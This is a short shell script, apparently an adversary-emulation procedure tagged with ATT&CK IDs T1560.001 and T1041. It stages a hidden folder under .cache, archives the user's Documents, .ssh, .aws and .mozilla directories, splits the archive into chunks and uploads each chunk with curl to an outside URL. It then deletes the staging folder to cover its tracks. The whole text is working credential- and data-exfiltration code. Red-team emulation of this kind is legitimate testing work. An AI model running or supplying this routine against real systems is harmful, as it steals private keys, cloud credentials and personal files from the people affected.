# T1560.001, T1041 by tar, split and curl.
groundwork
hide=.cache/.$state; mkdir -p "$hide"
tar -czf "$hide/all.tgz" Documents .ssh .aws .mozilla
split -b 200000 "$hide/all.tgz" "$hide/part-"
for f in "$hide"/part-*; do curl -s -H Expect: -o /dev/null -T "$f" "$url/put"; done
rm -r "$hide"
